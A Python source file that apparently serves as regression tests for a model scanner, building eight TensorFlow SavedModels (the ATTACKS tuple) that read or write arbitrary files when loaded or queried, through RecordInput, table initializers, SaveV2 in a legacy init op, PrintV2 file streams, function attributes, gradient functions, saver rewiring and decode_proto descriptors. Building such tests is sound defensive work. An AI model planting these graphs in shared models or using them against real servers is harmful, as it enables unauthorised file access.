"""SavedModels that do harm when they are loaded or asked; each was seen to, before its check.

Every function writes one, `folder`, that reads or writes `file`, beside it.
"""

from __future__ import annotations

from pathlib import Path
from types import ModuleType

import tensorflow as tf
from tensorflow.core.framework.attr_value_pb2 import AttrValue


def reads_records(graphs: ModuleType, folder: Path, file: Path) -> None:
    def body(x):
        record = tf.raw_ops.RecordInput(
            file_pattern=str(file), file_random_seed=1, file_shuffle_shift_ratio=0.0,
            file_buffer_size=1, file_parallelism=1, batch_size=1, compression_type="",
        )  # fmt: skip
        return {"y": tf.strings.join([x, record[0]])}

    graphs.save_function(folder, body)


def fills_a_table_when_asked(graphs: ModuleType, folder: Path, file: Path) -> None:
    """A server feeds assets when it loads, so that a request gets what the constant holds."""

    def edit(meta_graph):
        nodes = meta_graph.graph_def.node
        graphs.const(nodes, "path", str(file))
        graphs.const(nodes, "line", tf.constant(0, tf.int64))
        graphs.const(nodes, "none", "none")
        types = {"key_dtype": tf.int64, "value_dtype": tf.string}
        graphs.add(nodes, "late", "HashTableV2", **types, shared_name=b"late")
        graphs.add(
            nodes, "fill", "InitializeTableFromTextFileV2", ["late", "path"],
            key_index=-1, value_index=-2, vocab_size=-1, delimiter=b"\t",
        )  # fmt: skip
        graphs.add(
            nodes, "find", "LookupTableFindV2", ["late", "line", "none", "^fill"],
            Tin=tf.int64, Tout=tf.string,
        )  # fmt: skip
        graphs.output(meta_graph, "find:0", graphs.TEXT)
        meta_graph.asset_file_def.add(filename="words.txt").tensor_info.name = "path:0"

    graphs.change(graphs.save_words(folder), edit)


def saves_when_loaded(graphs: ModuleType, folder: Path, file: Path) -> None:
    def edit(meta_graph):
        nodes = meta_graph.graph_def.node
        prefix = graphs.const(nodes, "prefix", str(file))
        names = graphs.const(nodes, "names", ["stolen"])
        slices = graphs.const(nodes, "slices", [""])
        value = graphs.const(nodes, "value", [1.0])
        graphs.add(nodes, "save", "SaveV2", [prefix, names, slices, value], dtypes=[tf.float32])
        del meta_graph.signature_def["__saved_model_init_op"]
        meta_graph.collection_def["saved_model_main_op"].Clear()
        meta_graph.collection_def.pop("saved_model_main_op")
        meta_graph.collection_def["legacy_init_op"].node_list.value.append("save")

    graphs.change(graphs.save_scale(folder), edit)


def prints_where_its_caller_says(graphs: ModuleType, folder: Path, file: Path) -> None:
    def edit(meta_graph):
        graph = meta_graph.graph_def
        prints = graphs.function(graph, "prints", tf.string)
        node = graphs.add(prints.node_def, "words", "Const", dtype=tf.string)
        node.attr["value"].tensor.CopyFrom(tf.make_tensor_proto("printed"))
        graphs.add(prints.node_def, "print", "PrintV2", ["words:output:0"], output_stream="stream")
        prints.ret["y"] = "words:output:0"
        prints.control_ret["print"] = "print"
        prints.signature.control_output.append("print")
        stream = AttrValue(s=b"file://" + bytes(file))
        graphs.add(
            graph.node, "call", "StatefulPartitionedCall",
            f=graphs.calls("prints", stream=stream), Tin=[], Tout=[tf.string],
        )  # fmt: skip
        graphs.output(meta_graph, "call:0", graphs.TEXT)

    graphs.change(graphs.save_scale(folder), edit)


def calls_what_its_caller_says(graphs: ModuleType, folder: Path, file: Path) -> None:
    def edit(meta_graph):
        graph = meta_graph.graph_def
        _reading(graphs, graph, file)
        calls = graphs.function(graph, "calls", tf.float32)
        graphs.add(
            calls.node_def, "inner", "StatefulPartitionedCall", f="what", Tin=[], Tout=[tf.float32]
        )
        calls.ret["y"] = "inner:output:0"
        graphs.add(
            graph.node, "call", "StatefulPartitionedCall",
            f=graphs.calls("calls", what=graphs.calls("reads")), Tin=[], Tout=[tf.float32],
        )  # fmt: skip
        graphs.output(meta_graph, "call:0", graphs.FLOAT)

    graphs.change(graphs.save_scale(folder), edit)


def calls_a_gradient(graphs: ModuleType, folder: Path, file: Path) -> None:
    def edit(meta_graph):
        graph = meta_graph.graph_def
        _reading(graphs, graph, file)
        for name in ("x", "dy"):  # a gradient's arguments
            graph.library.function[-1].signature.input_arg.add(name=name, type=graphs.FLOAT)
        plain = graphs.function(graph, "plain", tf.float32)
        plain.signature.input_arg.add(name="x", type=graphs.FLOAT)
        plain.ret["y"] = "x"
        graph.library.gradient.add(function_name="plain", gradient_func="reads")
        graphs.const(graph.node, "at", [1.0, 1.0])
        graphs.add(
            graph.node, "call", "SymbolicGradient", ["at", "at"],
            f=graphs.calls("plain"), Tin=[tf.float32] * 2, Tout=[tf.float32],
        )  # fmt: skip
        graphs.output(meta_graph, "call:0", graphs.FLOAT)

    graphs.change(graphs.save_scale(folder), edit)


def restores_another_model(graphs: ModuleType, folder: Path, file: Path) -> None:
    """The variable, which the signature multiplies by, gets the weights of `file`'s."""

    def edit(meta_graph):
        nodes = meta_graph.graph_def.node
        graphs.const(nodes, "other", str(file / "variables" / "variables"))
        restores = graphs.node_named(meta_graph, meta_graph.saver_def.restore_op_name)
        restores.input[0] = "other"

    graphs.change(graphs.save_scale(folder), edit)


def reads_a_descriptor(graphs: ModuleType, folder: Path, file: Path) -> None:
    def body(x):
        decoded = tf.io.decode_proto([x], "M", ["f"], [tf.string], descriptor_source=str(file))
        return {"y": decoded.values[0]}

    graphs.save_function(folder, body)


def _reading(graphs: ModuleType, graph, file: Path) -> None:
    """Adds a function, "reads", that gives the variable of the model in `file`."""
    reads = graphs.function(graph, "reads", tf.float32)
    for name, value in {
        "prefix": str(file / "variables" / "variables"),
        "names": ["factor/.ATTRIBUTES/VARIABLE_VALUE"],
        "slices": [""],
    }.items():
        node = graphs.add(reads.node_def, name, "Const", dtype=tf.string)
        node.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value))
    graphs.add(
        reads.node_def, "restore", "RestoreV2",
        ["prefix:output:0", "names:output:0", "slices:output:0"], dtypes=[tf.float32],
    )  # fmt: skip
    reads.ret["y"] = "restore:tensors:0"


ATTACKS = (
    reads_records,
    fills_a_table_when_asked,
    saves_when_loaded,
    prints_where_its_caller_says,
    calls_what_its_caller_says,
    calls_a_gradient,
    restores_another_model,
    reads_a_descriptor,
)
